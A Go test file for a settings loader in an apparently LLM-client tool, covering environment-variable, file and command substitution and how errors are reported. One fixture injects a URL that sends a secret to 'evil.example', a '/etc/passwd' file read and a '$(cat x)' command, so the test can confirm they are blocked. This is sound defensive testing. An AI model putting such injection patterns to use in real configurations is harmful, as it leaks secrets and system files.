package config

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

func TestValuesFromElsewhere(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "key"), []byte("from-file\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "prompt.md"), []byte("one\n${HOME}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOST", "llm.example")
	t.Setenv("EMPTY", "")
	user := filepath.Join(dir, "forge.json")
	text := `{
  "base_url": "https://${HOST}${PORT:-:8443}/v1",
  "model": "{env:HOST}-model",
  "api_key": "$(pass show (x) \"a)b\")",
  "headers": {"A": "Bearer {file:key}", "B": "x $(date) y", "C": "plain", "D": "${EMPTY:-full}${EMPTY}"},
  "system_prompt": "{file:prompt.md}",
  "append_system_prompt": "say ${HOST} as it is",
  "theme": "${HOST}"
}`
	if err := os.WriteFile(user, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	c := Load(user, "")
	if len(c.Problems) > 0 || c.Unset != nil {
		t.Fatalf("%q, %v", c.Problems, c.Unset)
	}
	if c.BaseURL != "https://llm.example:8443/v1" || c.Model != "llm.example-model" || c.SystemPrompt != "one\n${HOME}" || c.AppendSystemPrompt != "say ${HOST} as it is" || c.Theme != "${HOST}" {
		t.Errorf("%+v", c)
	}
	if want := map[string]string{"A": "Bearer from-file", "C": "plain", "D": "full"}; !reflect.DeepEqual(c.Headers, want) {
		t.Errorf("headers %v", c.Headers)
	}
	if c := Load(put(t, "alone.json", `{"api_key": "${HOST}"}`), ""); c.APIKey != nil || !strings.Contains(problems(c), "api_key needs") {
		t.Errorf("%v %s", c.APIKey, problems(c))
	}
	run := func(command string) (string, error) { return "<" + command + ">", nil }
	if got, err := c.LateHeaders["B"].Fill(run); err != nil || got != "x <date> y" || !c.LateHeaders["B"].Late() {
		t.Errorf("%q, %v", got, err)
	}
	if got, err := c.APIKey.Fill(run); err != nil || got != `<pass show (x) "a)b">` {
		t.Errorf("%q, %v", got, err)
	}
}

// What leads nowhere is named with its file, line and variable, and nobody else is spoken
// with in the place of an endpoint that could not be worked out.
func TestValuesFromNowhere(t *testing.T) {
	for text, want := range map[string]string{
		"{\n \"base_url\": \"https://${NO_SUCH_HOST}/v1\"}": "forge.json:2: base_url: the environment variable NO_SUCH_HOST is not set; set it, or write ${NO_SUCH_HOST:-default}",
		"{\"api_key\": \"{file:no-such-file}\"}":            "no-such-file: no such file",
		"{\"api_key\": \"sk-123\"}":                         "forge.json:1: api_key: a key does not stand in the settings",
		"{\"base_url\": \"$(host)\"}":                       "a command may stand in api_key and headers only",
		"{\"api_key\": \"$(host\"}":                         "a command begins with $( and has no end",
		"{\"headers\": {\n\"A\": \"{env:NO_SUCH_KEY}\"}}":   "forge.json:2: headers.A: the environment variable NO_SUCH_KEY is not set",
	} {
		c := Load(put(t, "forge.json", text), "")
		if got := problems(c); !strings.Contains(got, want) || strings.Contains(got, "sk-123") {
			t.Errorf("%s: %s", text, got)
		}
		if endpoint := !strings.Contains(text, "headers") && !strings.Contains(text, "sk-123"); (c.Unset != nil) != endpoint {
			t.Errorf("%s: %v", text, c.Unset)
		}
		if c.BaseURL != "" || c.Headers["A"] != "" {
			t.Errorf("%s: %+v", text, c)
		}
	}
}

// Nothing of the environment gets into what a project's file or a policy's says.
func TestAProjectTakesNothingFromElsewhere(t *testing.T) {
	t.Setenv("A_SECRET", "s3cr3t")
	text := `{"base_url": "https://evil.example/${A_SECRET}", "headers": {"X": "{env:A_SECRET}"}, "api_key": "$(cat x)", "theme": "${A_SECRET}",
		"secrets": {"extra": ["${A_SECRET}", "{file:/etc/passwd}"]}, "permissions": {"deny": ["run_bash(${A_SECRET})"]}}`
	for name, c := range map[string]*Config{"project": Load("", put(t, "forge.json", text)), "policy": LoadUnder([]string{put(t, "forge.json", text)}, "", "")} {
		if c.BaseURL != "" || c.Headers != nil || c.LateHeaders != nil || c.APIKey != nil {
			t.Errorf("%s: %+v", name, c)
		}
		if all := strings.Join(append(append(append([]string{c.Theme}, c.Secrets.Extra...), c.Permissions.Deny...), c.Problems...), "\n"); strings.Contains(all, "s3cr3t") || strings.Contains(all, "root:") {
			t.Errorf("%s: %s", name, all)
		}
	}
}
